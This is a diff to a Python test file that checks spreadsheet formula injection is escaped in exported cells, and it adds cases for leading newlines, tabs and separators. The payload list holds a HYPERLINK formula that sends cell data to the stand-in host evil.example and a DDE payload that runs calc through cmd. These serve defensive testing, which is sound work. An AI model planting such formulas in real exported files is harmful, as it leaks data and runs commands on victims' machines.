@@ -18,7 +18,7 @@ from tests.transfers.test_decide import orphan
 from tests.views.conftest import person, proposal
 
 PAYLOADS = (
-    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\x00=1", '=HYPERLINK("https://evil.example?"&A1)',
+    "=1+1", "+1", "-1", "@SUM(A1)", "\t1", "\r1", "\n1", "\x00=1", '=HYPERLINK("https://evil.example?"&A1)',
     "  =cmd|' /C calc'!A0", "＝1+1", "\ufeff=1", "\u2003@x", "\u200b+1",
 )  # fmt: skip
 """What a spreadsheet could take for a formula, or run."""
@@ -47,7 +47,9 @@ def test_no_cell_begins_as_a_formula(column: str, payload: str) -> None:
 @pytest.mark.parametrize(
     ("payload", "kept"),
     [("x;=1+1;y", "x;'=1+1;y"), ("x; @SUM(A1)", "x; '@SUM(A1)"), ('x";"-2+3', 'x";"\'-2+3'), ("x\t=1", "x\t'=1"),
-     ("x,+1", "x,'+1"), ("x\r\n=1", "x\r\n'=1"), ("x;\ufeff＝1", "x;\ufeff'＝1"), ("=1;=2", "'=1;'=2"), ("a;b", "a;b")],
+     ("x,+1", "x,'+1"), ("x\r\n=1", "x\r\n'=1"), ("x;\ufeff＝1", "x;\ufeff'＝1"), ("=1;=2", "'=1;'=2"), ("a;b", "a;b"),
+     ("\n=1+1", "'\n'=1+1"), ("\t=1", "'\t'=1"), ("\r\n=1", "'\r\n'=1"), ("\n\n =1", "'\n\n '=1"), (";=1", ";'=1"),
+     ("\n;=1", "'\n;'=1")],
 )  # fmt: skip
 def test_no_part_of_a_cell_begins_as_a_formula(payload: str, kept: str) -> None:
     """Where the list separator is another one, a cell is split in its middle: no part is a formula either."""
